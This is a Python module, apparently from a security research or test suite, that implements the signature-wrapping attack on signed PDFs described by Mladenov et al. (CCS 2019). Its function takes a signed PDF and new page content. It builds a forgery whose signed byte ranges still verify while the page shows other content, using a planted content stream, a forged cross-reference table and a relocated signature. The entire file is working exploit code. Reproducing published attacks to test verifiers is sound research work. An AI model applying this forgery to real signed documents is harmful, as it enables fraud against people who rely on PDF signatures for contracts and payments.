"""Signature wrapping: the forgery that moves a signature to make room for other content.

The two signed ranges stay as they were, so the digest fits. The hole between them grows: it holds another page content,
another cross-reference table at the offset that the signed end of the file points to, and the signature again. Written
as a literal string it takes half the room that its hexadecimal form would, and the rest of the hole is nobody's.

Source: Mladenov et al., "1 Trillion Dollar Refund: How To Spoof PDF Signatures" (CCS 2019), section on signature wrapping.
"""

from __future__ import annotations

import re

LENGTH = 8000
"""Bytes of the CMS structure with its padding, in the forged file."""
TABLE = 2000
"""Bytes for the forged cross-reference table."""


def wrapped(pdf: bytes, content: bytes) -> bytes:
    """Return a PDF whose signed ranges are those of the given one, and whose page shows something else.

    Args:
        pdf: A PDF with one page and one signature, as `sign_pdf` writes it.
        content: Operators of the content stream to show.
    """
    first, second, rest = (int(word) for word in found(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\]", pdf))
    structure = bytes.fromhex(pdf[first + 1 : second - 1].decode()).ljust(LENGTH, b"\x00")
    (field,), (page,) = found(rb"/V (\d+) 0 R", pdf), found(rb"/Contents (\d+) 0 R", pdf)
    start = int(pdf[pdf.rfind(b"startxref") :].split()[1])
    before = int(found(rb"/Prev (\d+)", pdf)[0])
    offsets = {int(match.group(1)): match.start() for match in re.finditer(rb"(?m)^(\d+) 0 obj", pdf[:first])}
    offsets = {number: offset for number, offset in offsets.items() if offset > before}
    hole = b"<00>\n>>\nendobj\n"
    offsets[int(page)] = first + len(hole)
    hole += b"%s 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (page, len(content), content)
    hole = hole.ljust(start - first, b"\n")
    offsets[int(field)] = start + TABLE
    hole += table(offsets, found(rb"/Root (\d+) 0 R", pdf)[0], before, start).ljust(TABLE, b"\n")
    gap = 2 * LENGTH + 2
    literal = re.sub(rb"([\\()])", rb"\\\1", structure).replace(b"\r", rb"\r")
    hole += b"%s 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached\n" % field
    hole += b"/M (D:20260504120000Z) /ByteRange [0 %d %d %d]\n" % (first, first + gap, rest)
    hole += b"/Contents (%s) >>\nendobj\n" % literal
    assert offsets[int(page)] < start
    assert len(hole) <= gap
    return pdf[:first] + hole.ljust(gap, b"\n") + pdf[second:]


def found(pattern: bytes, pdf: bytes) -> tuple[bytes, ...]:
    match = re.search(pattern, pdf)
    assert match
    return match.groups()


def table(offsets: dict[int, int], root: bytes, before: int, start: int) -> bytes:
    """Return a cross-reference table for the objects that are new or were rewritten when the PDF was signed."""
    lines = [b"%d 1\n%010d 00000 n \n" % (number, offset) for number, offset in sorted(offsets.items())]
    tail = b"trailer\n<< /Size %d /Root %s 0 R /Prev %d /ID [<00> <00>] >>\n" % (max(offsets) + 1, root, before)
    return b"xref\n" + b"".join(lines) + tail + b"startxref\n%d\n%%%%EOF\n" % start
